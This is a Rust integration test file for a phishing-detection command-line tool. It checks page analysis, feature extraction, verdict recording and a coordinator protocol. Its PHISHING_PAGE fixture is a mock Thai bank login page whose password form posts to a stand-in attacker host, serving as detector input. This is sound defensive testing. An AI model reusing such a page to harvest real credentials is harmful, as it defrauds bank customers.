//! Integration tests for the guardian CLI binary.
//! Tests exercise subcommands via process invocation.

use std::fs;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

const PHISHING_PAGE: &str = r#"<html><head><title>KBank Online</title></head><body>
<img alt="KBank logo">
<p>บัญชีของคุณจะถูกระงับบัญชี กรุณายืนยันตัวตนและกรอก OTP</p>
<form action="http://attacker.example/collect"><input name="u"><input type="password" name="p"></form>
</body></html>"#;

const CLEAN_PAGE: &str = "<html><head><title>Hello</title></head><body><p>hello world</p></body></html>";

/// Each test gets its own config and data directories.
struct Sandbox {
    dir: tempfile::TempDir,
}

impl Sandbox {
    fn new() -> Self {
        let dir = tempfile::tempdir().expect("failed to create tmpdir");
        let store = dir.path().join("verdicts.json");
        fs::write(
            dir.path().join("config.yaml"),
            format!("store_path: {}\n", store.display()),
        )
        .unwrap();
        Sandbox { dir }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn page(&self, name: &str, html: &str) -> PathBuf {
        let path = self.dir.path().join(name);
        fs::write(&path, html).unwrap();
        path
    }

    fn guardian(&self) -> Command {
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_guardian"));
        cmd.env_remove("GUARDIAN_CONFIG")
            .env_remove("GUARDIAN_REMOTE_URL")
            .env_remove("GUARDIAN_PROFILE")
            .env_remove("GUARDIAN_LOG")
            .env("XDG_CONFIG_HOME", self.path())
            .env("XDG_DATA_HOME", self.path())
            .arg("--config")
            .arg(self.path().join("config.yaml"));
        cmd
    }
}

// ─── analyze subcommand ───

#[test]
fn analyze_clean_page_is_safe() {
    let sb = Sandbox::new();
    let page = sb.page("clean.html", CLEAN_PAGE);
    let out = sb
        .guardian()
        .args(["analyze", "--url", "https://example.com/"])
        .arg(&page)
        .output()
        .expect("failed to run guardian");
    assert_eq!(out.status.code(), Some(0));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("Safe (score: 0/100"), "got: {stderr}");
    assert!(stderr.contains("Local checks passed"));
}

#[test]
fn analyze_json_phishing_page() {
    let sb = Sandbox::new();
    let page = sb.page("phish.html", PHISHING_PAGE);
    let out = sb
        .guardian()
        .args(["analyze", "--json", "--url", "https://kbank-secure-verify.xyz/login"])
        .arg(&page)
        .output()
        .expect("failed to run guardian");
    assert_eq!(out.status.code(), Some(0));
    let json: serde_json::Value =
        serde_json::from_slice(&out.stdout).expect("analyze --json should output valid JSON");
    assert_eq!(json["status"], "Phishing");
    assert_eq!(json["score"], 100);
    assert_eq!(json["layer"], "Bouncer");
    assert!(json["reasons"][0]
        .as_str()
        .unwrap()
        .starts_with("Password form submits to an external site"));
}

#[test]
fn analyze_trusted_domain() {
    let sb = Sandbox::new();
    let page = sb.page("phish.html", PHISHING_PAGE);
    let out = sb
        .guardian()
        .args(["analyze", "--json", "--url", "https://online.kasikornbank.com/"])
        .arg(&page)
        .output()
        .expect("failed to run guardian");
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["score"], 0);
    assert_eq!(json["reasons"][0], "Known trusted domain");
}

#[test]
fn analyze_basic_profile_from_env() {
    let sb = Sandbox::new();
    let page = sb.page("text.html", "<body><p>OTP ระงับบัญชี</p></body>");
    let out = sb
        .guardian()
        .env("GUARDIAN_PROFILE", "basic")
        .args(["analyze", "--json", "--url", "https://example.com/"])
        .arg(&page)
        .output()
        .expect("failed to run guardian");
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["score"], 0);
}

#[test]
fn analyze_reads_stdin() {
    let sb = Sandbox::new();
    let mut child = sb
        .guardian()
        .args(["analyze", "--json", "--url", "https://example.com/", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("failed to run guardian");
    child
        .stdin
        .take()
        .unwrap()
        .write_all("<body><p>OTP ระงับบัญชี</p></body>".as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["score"], 30);
    assert_eq!(json["status"], "Suspicious");
}

#[test]
fn analyze_missing_file_fails() {
    let sb = Sandbox::new();
    let out = sb
        .guardian()
        .args(["analyze", "--url", "https://example.com/", "/nonexistent/page.html"])
        .output()
        .expect("failed to run guardian");
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("guardian: failed to read"));
}

// ─── features subcommand ───

#[test]
fn features_outputs_snapshot() {
    let sb = Sandbox::new();
    let page = sb.page("phish.html", PHISHING_PAGE);
    let out = sb
        .guardian()
        .args(["features", "--url", "https://kbank-secure-verify.xyz/login"])
        .arg(&page)
        .output()
        .expect("failed to run guardian");
    assert_eq!(out.status.code(), Some(0));
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["hostname"], "kbank-secure-verify.xyz");
    assert_eq!(json["title"], "KBank Online");
    assert_eq!(json["sensitiveInputCount"], 1);
    assert_eq!(json["forms"][0]["isExternalAction"], true);
    assert!(json["thaiKeywordsFound"]
        .as_array()
        .unwrap()
        .iter()
        .any(|k| k == "OTP"));
}

// ─── popup subcommand ───

#[test]
fn popup_without_data() {
    let sb = Sandbox::new();
    let out = sb
        .guardian()
        .args(["popup"])
        .output()
        .expect("failed to run guardian");
    assert_eq!(out.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&out.stdout).starts_with("No analysis yet"));
}

#[test]
fn recorded_verdict_shows_in_popup() {
    let sb = Sandbox::new();
    let page = sb.page("phish.html", PHISHING_PAGE);
    let out = sb
        .guardian()
        .args(["analyze", "--record", "--tab", "7", "--url", "https://kbank-secure-verify.xyz/login"])
        .arg(&page)
        .output()
        .expect("failed to run guardian");
    assert_eq!(out.status.code(), Some(0));
    assert!(sb.path().join("verdicts.json").exists());

    let out = sb
        .guardian()
        .args(["popup", "--tab", "7"])
        .output()
        .expect("failed to run guardian");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.starts_with("PHISHING  100/100"), "got: {stdout}");
    assert!(stdout.contains("URL: https://kbank-secure-verify.xyz/login"));

    let out = sb
        .guardian()
        .args(["popup", "--json"])
        .output()
        .expect("failed to run guardian");
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["tabId"], 7);
    assert_eq!(json["source"], "local");
}

#[test]
fn popup_rerun_records() {
    let sb = Sandbox::new();
    let page = sb.page("clean.html", CLEAN_PAGE);
    let out = sb
        .guardian()
        .args(["popup", "--tab", "2", "--url", "https://example.com/", "--rerun"])
        .arg(&page)
        .output()
        .expect("failed to run guardian");
    assert_eq!(out.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&out.stdout).starts_with("SAFE  0/100"));

    let out = sb
        .guardian()
        .args(["popup", "--json", "--tab", "2"])
        .output()
        .expect("failed to run guardian");
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["status"], "Safe");
}

// ─── coordinator subcommand ───

#[test]
fn coordinator_stdio_session() {
    let sb = Sandbox::new();
    let mut child = sb
        .guardian()
        .arg("coordinator")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("failed to run guardian");

    let lines = [
        r#"{"tab":1,"action":"analyzePage","data":{"status":"Phishing","score":80,"reasons":["Fake login"]}}"#,
        r#"{"tab":2,"action":"analyzePage","data":{"status":"Safe","score":0,"reasons":["Known trusted domain"]}}"#,
        r#"{"tab":2,"action":"getFeatures"}"#,
        "garbage",
    ];
    {
        let mut stdin = child.stdin.take().unwrap();
        for line in lines {
            writeln!(stdin, "{line}").unwrap();
        }
    }
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(0));

    let replies: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).expect("valid JSON reply"))
        .collect();
    assert_eq!(replies.len(), 4);
    assert_eq!(replies[0]["reply"], "ack");
    assert_eq!(replies[1]["reply"], "ack");
    assert_eq!(replies[2]["reply"], "unavailable");
    assert_eq!(replies[3]["reply"], "error");

    // Tab 2's Safe verdict arrived last, so it owns lastResult.
    let out = sb
        .guardian()
        .args(["popup", "--json"])
        .output()
        .expect("failed to run guardian");
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["status"], "Safe");
    assert_eq!(json["tabId"], 2);
}

#[test]
fn broken_config_falls_back_to_defaults() {
    let sb = Sandbox::new();
    fs::write(sb.path().join("broken.yaml"), "profile: [unclosed\n").unwrap();
    let page = sb.page("clean.html", CLEAN_PAGE);
    let out = Command::new(env!("CARGO_BIN_EXE_guardian"))
        .env_remove("GUARDIAN_CONFIG")
        .env_remove("GUARDIAN_LOG")
        .env("XDG_CONFIG_HOME", sb.path())
        .env("XDG_DATA_HOME", sb.path())
        .arg("--config")
        .arg(sb.path().join("broken.yaml"))
        .args(["analyze", "--url", "https://example.com/"])
        .arg(&page)
        .output()
        .expect("failed to run guardian");
    assert_eq!(out.status.code(), Some(0));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("using defaults"), "got: {stderr}");
}
